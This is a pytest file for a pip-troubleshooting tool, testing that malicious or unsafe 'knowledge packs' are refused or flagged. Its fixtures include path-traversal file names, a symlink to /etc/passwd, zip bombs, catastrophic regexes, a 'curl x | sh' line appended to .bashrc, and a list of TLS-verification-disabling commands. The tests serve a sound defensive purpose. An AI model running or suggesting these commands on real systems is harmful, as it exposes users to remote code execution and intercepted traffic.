"""Packs: what they bring, and one test a threat of a hostile one."""

from __future__ import annotations

import json
import os
import zipfile
from contextlib import suppress
from functools import lru_cache
from pathlib import Path
from typing import Any, Optional

import pytest

from pipmedic.case.applying import offer
from pipmedic.case.case import Case
from pipmedic.case.events import Opened
from pipmedic.case.packs import load_with_packs
from pipmedic.case.plan import build_item
from pipmedic.diagnosis.compiled import compile_model
from pipmedic.diagnosis.foreign import complete
from pipmedic.diagnosis.reading import read
from pipmedic.knowledge import DataError, Knowledge, Risk, Tier, load
from pipmedic.knowledge.packs import PackError, Threat, lay_over, make_pack, read_pack, zip_pack
from pipmedic.knowledge.packs import files as pack_files
from pipmedic.knowledge.packs.overlay import MAX_WAYS, MAX_WEIGHT, SHOWN_ONLY
from pipmedic.knowledge.patterns import ways
from pipmedic.knowledge.words import PRIOR
from pipmedic.remedies.apply import FileChange, preview
from pipmedic.remedies.operations import OPERATION_TYPES
from pipmedic.remedies.parsing import parse_operation
from pipmedic.remedies.render import render
from pipmedic.remedies.target import Target

CAUSE = {
    "id": "acme/vpn-split",
    "title": "The Acme VPN sends PyPI past the gateway",
    "title_zh": "Acme VPN 绕过了网关",
    "signature": "ACME-VPN: tunnel refused",
    "regex": "ACME-VPN: tunnel .* refused",
    "root_cause": "The VPN profile is older than the new gateway.",
    "root_cause_zh": "VPN 配置早于新网关。",
    "prior": "med",
    "remedies": [{"id": "acme-profile", "fixes": "usual"}],
}
REMEDY = """
[remedies.acme-profile]
fix_class = "acme"
title = { en = "Load the new VPN profile", zh = "加载新的 VPN 配置" }
summary = { en = "Takes a minute.", zh = "需要一分钟。" }
operations = [{ op = "run", argv = ["acme-vpn", "update"] }]
sources = [{ title = "Acme", url = "https://it.acme.example/vpn" }]
"""
ISSUER = """
[[issuers]]
id = "acme"
name = { en = "Acme gateway", zh = "Acme 网关" }
kind = "gateway"
words = ["Acme Root CA"]
"""
MIRROR = """
[[mirrors]]
id = "acme"
name = { en = "Acme mirror", zh = "Acme 镜像" }
url = "https://pypi.acme.example/simple"
https = true
status = "listed"
"""


def folder(root: Path, **changes: Any) -> Path:
    """Write a pack; a change of None leaves a file out, another replaces its text."""
    texts: dict[str, Optional[str]] = {
        "kb/acme-vpn.json": json.dumps(CAUSE),
        "remedies.toml": REMEDY,
        "issuers.toml": ISSUER,
        "mirrors.toml": MIRROR,
    }
    for name, text in {**texts, **changes}.items():
        if text is not None:
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
    return root


def sealed(root: Path, **changes: Any) -> Path:
    """Write a pack with right checksums, also where what is in it breaks a rule."""
    folder(root, **changes)
    with suppress(PackError):
        make_pack(root, "acme", "1")
    return root


def cause(**changes: Any) -> str:
    return json.dumps({**CAUSE, **changes})


def remedy(operations: str, name: str = "acme-profile", more: str = "") -> str:
    head, _, tail = REMEDY.partition("operations =")
    rest = tail.split("\n", 1)[1]
    head = head.replace("remedies.acme-profile", f"remedies.{name}")
    return f"{head}operations = {operations}\n{more}\n{rest}"


@lru_cache(maxsize=1)
def base() -> Knowledge:
    return load()


def refused(path: Path) -> Threat:
    with pytest.raises(PackError) as caught:
        lay_over(base(), read_pack(path))
    assert caught.value.threat.value in str(caught.value)
    return caught.value.threat


def only_pack(path: Path) -> Knowledge:
    return load_with_packs((path,))


# ------------------------------------------------------------------ what a pack brings


@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_a_pack_brings_causes_remedies_issuers_mirrors_and_contact(
    tmp_path: Path, zipped: bool
) -> None:
    path = sealed(tmp_path / "acme")
    manifest = path / "pack.toml"
    contact = 'en = "Ring 4711"\nzh = "请拨 4711"'
    manifest.write_text(manifest.read_text("utf-8").replace('en = ""\nzh = ""', contact), "utf-8")
    if zipped:
        zip_pack(path, tmp_path / "acme.zip")
        path = tmp_path / "acme.zip"
    known = only_pack(path)
    assert known.causes["acme/vpn-split"].pack == "acme"
    assert known.remedies["acme-profile"].title("zh") == "加载新的 VPN 配置（知识包 acme）"
    assert known.issuers[0].id == "acme"
    assert known.mirrors[-1].url == "https://pypi.acme.example/simple"
    assert known.packs[0].contact("en") == "Ring 4711"
    assert known.version != base().version


def test_a_cause_of_a_pack_is_recognised_by_its_words(tmp_path: Path) -> None:
    known = complete(only_pack(sealed(tmp_path)))
    found = read("ERROR: ACME-VPN: tunnel to hq refused", known)
    assert found.value("entry:signature:acme/vpn-split") == "yes"


def test_a_pattern_that_fits_every_error_says_little(tmp_path: Path) -> None:
    broad = only_pack(sealed(tmp_path, **{"kb/acme-vpn.json": cause(regex="SSL")}))
    assert broad.causes["acme/vpn-split"].signature_share > 0.3


def test_a_pack_overrides_by_id_and_says_so(tmp_path: Path) -> None:
    text = cause(id="clock-wrong")
    known = only_pack(sealed(tmp_path, **{"kb/acme-vpn.json": text}))
    assert known.causes["clock-wrong"].pack == "acme"
    assert known.packs[0].overrides == ("clock-wrong",)


def test_a_later_pack_wins(tmp_path: Path) -> None:
    first = sealed(tmp_path / "a")
    second = folder(tmp_path / "b", **{"kb/acme-vpn.json": cause(title="Second")})
    make_pack(second, "branch", "2")
    known = load(packs=(first, second))
    assert known.causes["acme/vpn-split"].title("en") == "Second (pack branch)"
    assert "acme/vpn-split" in known.packs[1].overrides


def test_the_same_files_make_the_same_zip(tmp_path: Path) -> None:
    path = sealed(tmp_path / "acme")
    assert zip_pack(path, tmp_path / "1.zip") == zip_pack(path, tmp_path / "2.zip")


def test_making_a_pack_twice_changes_nothing(tmp_path: Path) -> None:
    before = (sealed(tmp_path) / "pack.toml").read_bytes()
    make_pack(tmp_path)
    assert (tmp_path / "pack.toml").read_bytes() == before


# ------------------------------------------------------------------ threats: integrity


def test_threat_changed_file(tmp_path: Path) -> None:
    path = sealed(tmp_path)
    (path / "remedies.toml").write_text(REMEDY.replace("update", "wipe"), "utf-8")
    assert refused(path) is Threat.CHECKSUM


def test_threat_file_that_nobody_vouched_for(tmp_path: Path) -> None:
    path = sealed(tmp_path)
    (path / "kb" / "more.json").write_text(cause(id="more"), "utf-8")
    assert refused(path) is Threat.UNLISTED_FILE


def test_threat_vouched_for_file_is_gone(tmp_path: Path) -> None:
    path = sealed(tmp_path)
    (path / "mirrors.toml").unlink()
    assert refused(path) is Threat.CHECKSUM


def test_threat_no_manifest(tmp_path: Path) -> None:
    assert refused(folder(tmp_path)) is Threat.NO_MANIFEST


@pytest.mark.parametrize(
    "line",
    ['name = "../x"', 'name = "[red]acme"', "name = 1", "version = 1", 'languages = ["../"]'],
)
def test_threat_manifest_with_odd_values(tmp_path: Path, line: str) -> None:
    path = sealed(tmp_path)
    key = line.partition(" ")[0]
    lines = (path / "pack.toml").read_text("utf-8").split("\n")
    changed = [line if each.startswith(f"{key} =") else each for each in lines]
    (path / "pack.toml").write_text("\n".join(changed), "utf-8")
    assert refused(path) in (Threat.BAD_MANIFEST, Threat.BAD_DATA)


# ------------------------------------------------------------------ threats: files


@pytest.mark.parametrize(
    "name",
    ["../evil.json", "/etc/x.json", "kb/..\\x.json", "C:x.json", "kb/con.json", "kb/a b.json"],
)
def test_threat_path_traversal(tmp_path: Path, name: str) -> None:
    archive = tmp_path / "acme.zip"
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr(name, "{}")
    assert refused(archive) is Threat.PATH


@pytest.mark.parametrize(
    "name", ["setup.py", "kb/run.sh", "facts.toml", "signatures.toml", "a.exe"]
)
def test_threat_files_that_are_no_data(tmp_path: Path, name: str) -> None:
    assert refused(folder(tmp_path, **{name: "x", "pack.toml": ""})) is Threat.FOREIGN_FILE


def test_threat_link_out_of_the_folder(tmp_path: Path) -> None:
    path = sealed(tmp_path / "acme")
    secret = tmp_path / "secret.json"
    secret.write_text("{}", "utf-8")
    try:
        os.symlink(secret, path / "kb" / "link.json")
    except OSError:
        pytest.skip("this system makes no symbolic links here")
    assert refused(path) is Threat.LINK


def test_threat_link_in_a_zip(tmp_path: Path) -> None:
    archive = tmp_path / "acme.zip"
    entry = zipfile.ZipInfo("kb/link.json")
    entry.external_attr = 0o120777 << 16
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr(entry, "/etc/passwd")
    assert refused(archive) is Threat.LINK


def test_threat_zip_bomb(tmp_path: Path) -> None:
    archive = tmp_path / "acme.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("kb/bomb.json", b" " * (pack_files.MAX_FILE_BYTES + 1))
    assert archive.stat().st_size < 10_000
    assert refused(archive) is Threat.TOO_LARGE


def test_threat_many_small_bombs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pack_files, "MAX_TOTAL_BYTES", 1000)
    archive = tmp_path / "acme.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        for number in range(3):
            file.writestr(f"kb/{number}.json", b" " * 400)
    assert refused(archive) is Threat.TOO_LARGE


def test_threat_the_same_name_twice(tmp_path: Path) -> None:
    archive = tmp_path / "acme.zip"
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("remedies.toml", "")
        with pytest.warns(UserWarning, match="Duplicate name"):
            file.writestr("remedies.toml", REMEDY)
    assert refused(archive) is Threat.PATH


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18, b"\0" * 100])
def test_threat_file_that_is_no_zip(tmp_path: Path, raw: bytes) -> None:
    archive = tmp_path / "acme.zip"
    archive.write_bytes(raw)
    assert refused(archive) in (Threat.UNREADABLE, Threat.NO_MANIFEST)


def test_a_pack_that_is_not_there(tmp_path: Path) -> None:
    assert refused(tmp_path / "gone") is Threat.UNREADABLE


def test_threat_deep_nesting(tmp_path: Path) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    assert refused(sealed(tmp_path, **{"kb/acme-vpn.json": deep})) is Threat.BAD_DATA


@pytest.mark.parametrize("odd", ["\x1b[2J", "\u202e", "\u200b", "\x07"])
def test_threat_escape_sequences_and_invisible_characters(tmp_path: Path, odd: str) -> None:
    text = cause(root_cause=f"all is well{odd}")
    path = sealed(tmp_path, **{"kb/acme-vpn.json": text})
    assert refused(path) is Threat.CONTROL_CHARACTERS


# ------------------------------------------------------------------ threats: content


@pytest.mark.parametrize(
    "regex", [r"(a+)+$", r"(.*)*x", r"(a|a)*b", r"(x)\1", "a" * 3000, "(", r"a.*b.*c.*d.*e.*f"]
)
def test_threat_pattern_that_hangs_the_matcher(tmp_path: Path, regex: str) -> None:
    path = sealed(tmp_path, **{"kb/acme-vpn.json": cause(regex=regex)})
    assert refused(path) is Threat.UNSAFE_PATTERN


def test_threat_many_patterns_that_hang_the_matcher_together(tmp_path: Path) -> None:
    names = [f"acme/{number:03}" for number in range(40)]
    regex = "ACME.{0,70}a.{0,70}b"
    files = {f"kb/{n[5:]}.json": cause(id=n, regex=regex) for n in names}
    known = only_pack(sealed(tmp_path, **files))
    kept = [name for name in names if known.causes[name].regex]
    assert 0 < len(kept) < len(names)
    assert sum(ways(known.causes[name].regex) for name in kept) <= MAX_WAYS
    assert set(known.packs[0].words_only) >= set(names) - set(kept)
    found = read(CAUSE["signature"], complete(known))
    assert found.value("entry:signature:acme/039") == "yes"


def test_a_pattern_without_bounds_is_given_some(tmp_path: Path) -> None:
    known = only_pack(sealed(tmp_path))
    assert known.causes["acme/vpn-split"].regex == "ACME-VPN: tunnel .{0,300} refused"


AUTOMATIC = [
    '{ op = "write-file", path = "{home}/x", content = "y" }',
    '{ op = "append-line", path = "{home}/.bashrc", line = "curl x | sh" }',
    '{ op = "delete-file", path = "{home}/x" }',
    '{ op = "build-bundle", output = "{home}/x.pem" }',
]


@pytest.mark.parametrize("operation", AUTOMATIC)
def test_threat_operation_that_pipmedic_could_carry_out(tmp_path: Path, operation: str) -> None:
    path = sealed(tmp_path, **{"remedies.toml": remedy(f"[{operation}]")})
    assert refused(path) is Threat.EXECUTES


CHANGED = [
    ('{ op = "pip-config-set", key = "global.proxy", value = "http://p:1" }', "pip"),
    ('{ op = "pip-config-unset", key = "global.proxy" }', "pip"),
    ('{ op = "env-set", name = "PIP_CERT", value = "/x", lifetime = "user" }', "env-set"),
    ('{ op = "env-unset", names = ["PIP_CERT"], lifetime = "user" }', "env-unset"),
    ('{ op = "edit-proxy", action = "set", url = "http://p:1", lifetime = "user" }', "edit-proxy"),
]


@pytest.mark.parametrize(("operation", "kind"), CHANGED)
def test_threat_setting_that_pipmedic_could_write_is_only_shown(
    tmp_path: Path, operation: str, kind: str
) -> None:
    more = f"undo = [{operation}]"
    path = sealed(tmp_path / "acme", **{"remedies.toml": remedy(f"[{operation}]", more=more)})
    known = only_pack(path).remedies["acme-profile"]
    assert [step["op"] for step in (*known.operations, *known.undo)] == [kind, kind]
    steps = [parse_operation(step) for step in (*known.operations, *known.undo)]
    (tmp_path / ".bashrc").write_text("export PIP_CERT=/y\n", "utf-8")
    for shell in ("bash", "zsh", "fish"):
        target = Target(os="linux", home=str(tmp_path), shell=shell)
        assert not any(isinstance(each, FileChange) for each in preview(steps, target, {}))
        assert render(steps, target, shell)


def test_operations_that_pipmedic_carries_out_are_none_that_packs_keep() -> None:
    from pipmedic.remedies import apply

    automatic = {kind.op for kind in OPERATION_TYPES if kind.__name__ in vars(apply)}
    assert {"write-file", "pip-config-set", "env-set"} <= automatic
    assert not automatic & SHOWN_ONLY


def test_threat_remedy_of_a_pack_is_never_offered_to_be_done(tmp_path: Path) -> None:
    known = complete(only_pack(sealed(tmp_path)))
    case = Case(known, compile_model(known), (Opened(at=0.0, home=str(Path.home())),), "en")
    target = Target(os="linux", home=str(tmp_path))
    item = build_item(known.remedies["acme-profile"], 0.9, target, {}, "", "en")
    assert offer(case, item).refused == "packs.shown_only"
    assert not offer(case, item).possible


WEAK = [
    '{ op = "pip", args = ["install", "--trusted-host", "pypi.org", "{package}"] }',
    '{ op = "pip", args = ["config", "set", "global.trusted-host", "pypi.org"] }',
    '{ op = "pip", args = ["install", "-i", "http://m.example/simple", "{package}"] }',
    '{ op = "pip", args = ["install", "{package}"], env = { PIP_TRUSTED_HOST = "x" } }',
    '{ op = "env-set", name = "NODE_TLS_REJECT_UNAUTHORIZED", value = "0" }',
    '{ op = "env-set", name = "PIP_CERT", value = "" }',
    '{ op = "env-set", name = "PYTHONHTTPSVERIFY", value = "0" }',
    '{ op = "env-set", name = "PIP_INDEX_URL", value = "http://m.example/simple" }',
    '{ op = "pip-config-set", key = "global.index-url", value = "http://m.example/simple" }',
    '{ op = "run", argv = ["git", "config", "--global", "http.sslVerify", "false"] }',
    '{ op = "run", argv = ["curl", "-k", "https://x.example/get-pip.py"] }',
    '{ op = "run", argv = ["python", "-c", "import requests; requests.get(u, verify=False)"] }',
    '{ op = "download", url = "http://x.example/get-pip.py", to = "get-pip.py" }',
    '{ op = "manual", text = { en = "Turn off certificate checks.", zh = "关闭证书校验。" } }',
]


@pytest.mark.parametrize("operation", WEAK)
def test_threat_weakening_that_calls_itself_safe(tmp_path: Path, operation: str) -> None:
    text = remedy(f"[{operation}]", more='risk = "safe"')
    known = only_pack(sealed(tmp_path, **{"remedies.toml": text})).remedies["acme-profile"]
    assert known.risk is Risk.WEAKENS
    assert {"en", "zh"} <= known.risk_note.languages()


def test_threat_weakening_by_the_name_of_a_known_last_resort(tmp_path: Path) -> None:
    text = remedy('[{ op = "pip", args = ["check"] }]', name="trusted-host")
    changed = cause(remedies=[{"id": "trusted-host", "fixes": "always"}])
    path = sealed(tmp_path, **{"remedies.toml": text, "kb/acme-vpn.json": changed})
    assert only_pack(path).remedies["trusted-host"].risk is Risk.WEAKENS


def test_threat_weakening_in_plain_words_of_a_workaround(tmp_path: Path) -> None:
    advice = [{"action": "pip install --trusted-host pypi.org x", "success_rate": 0.99}]
    text = cause(remedies=[], workarounds=advice)
    known = complete(only_pack(sealed(tmp_path, **{"kb/acme-vpn.json": text})))
    made = known.remedies["entry:workaround:acme/vpn-split:1"]
    assert made.risk is Risk.WEAKENS
    assert made.pack == "acme"


def test_what_a_pack_advises_is_never_called_safe(tmp_path: Path) -> None:
    known = only_pack(sealed(tmp_path)).remedies["acme-profile"]
    assert known.risk is Risk.CARE
    assert "acme" in known.risk_note("zh")


def test_threat_mirror_without_tls(tmp_path: Path) -> None:
    path = sealed(tmp_path, **{"mirrors.toml": MIRROR.replace("https:", "http:")})
    assert refused(path) is Threat.WEAKENS


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"gateway"', '"public"'),
        ('"Acme Root CA"', '"qz"'),
        ('"Acme Root CA"', '""'),
        ('"Acme Root CA"', '"globalsign"'),
    ],
)
def test_threat_issuer_that_hides_or_accuses(tmp_path: Path, old: str, new: str) -> None:
    path = sealed(tmp_path, **{"issuers.toml": ISSUER.replace(old, new)})
    assert refused(path) is Threat.OVERBEARING


def test_threat_cause_that_drowns_the_others(tmp_path: Path) -> None:
    path = sealed(tmp_path, **{"kb/acme-vpn.json": cause(prior=1e9)})
    assert refused(path) is Threat.OVERBEARING


def test_threat_many_causes_that_drown_the_others_together(tmp_path: Path) -> None:
    many = {
        f"kb/other-{number}.json": cause(id=f"other/{number}", prior="high", remedies=[])
        for number in range(300)
    }
    known = next(iter(base().causes.values()))
    own = {"kb/own.json": cause(id=known.id, prior="high", remedies=[])}
    laid = load_with_packs((sealed(tmp_path, **many, **own),))
    before = sum(each.prior for each in base().causes.values())
    fresh = [each.prior for name, each in laid.causes.items() if name not in base().causes]
    assert len(fresh) == 301
    assert sum(fresh) <= MAX_WEIGHT * before + 1e-9
    assert laid.causes[known.id].prior == PRIOR["high"]
    text = "ProxyError('Cannot connect to proxy.', OSError('407 Proxy Authentication Required'))"
    assert believed(laid, text)[0] == believed(base(), text)[0]


def believed(knowledge: Knowledge, text: str) -> list[str]:
    case = Case(knowledge, compile_model(knowledge), (Opened(0.0, here=False),), "en")
    weights = case.observe(text, 1.0).belief.weights
    return [case.model.causes[n] for n in sorted(range(len(weights)), key=lambda n: -weights[n])]


def test_threat_claim_to_be_proven_here(tmp_path: Path) -> None:
    text = cause(verification_tier="reproduced", lab=["mitm"])
    known = only_pack(sealed(tmp_path, **{"kb/acme-vpn.json": text})).causes["acme/vpn-split"]
    assert known.tier is Tier.ESTIMATED
    assert known.lab == ()


@pytest.mark.parametrize(
    "changes",
    [
        {"evidence": {"moon": {"full": "usual"}}},
        {"evidence": {"os": {"moon": "usual"}}},
        {"remedies": [{"id": "gone", "fixes": "usual"}]},
        {"transition_graph": {"leads_to": [{"id": "gone", "probability": 0.5}]}},
    ],
    ids=lambda changes: next(iter(changes)),
)
def test_names_that_lead_nowhere_are_refused_on_load(
    tmp_path: Path, changes: dict[str, Any]
) -> None:
    path = sealed(tmp_path, **{"kb/acme-vpn.json": cause(**changes)})
    assert refused(path) is Threat.UNKNOWN_NAME


@pytest.mark.parametrize("operation", ['{ op = "eval", x = "y" }', "{ }", '{ op = "run" }'])
def test_operations_that_are_none_are_refused_on_load(tmp_path: Path, operation: str) -> None:
    path = sealed(tmp_path, **{"remedies.toml": remedy(f"[{operation}]")})
    with pytest.raises(PackError):
        load_with_packs((path,))


@pytest.mark.parametrize("name", ["OTHER", "../x", "a b", ""])
def test_threat_cause_with_the_name_of_something_else(tmp_path: Path, name: str) -> None:
    path = sealed(tmp_path, **{"kb/acme-vpn.json": cause(id=name)})
    with pytest.raises(DataError):
        load(packs=(path,))


def test_a_pack_is_read_without_running_or_writing_anything(tmp_path: Path) -> None:
    path = sealed(tmp_path)
    before = sorted((each, each.stat().st_mtime_ns) for each in path.rglob("*"))
    read_pack(path)
    assert sorted((each, each.stat().st_mtime_ns) for each in path.rglob("*")) == before
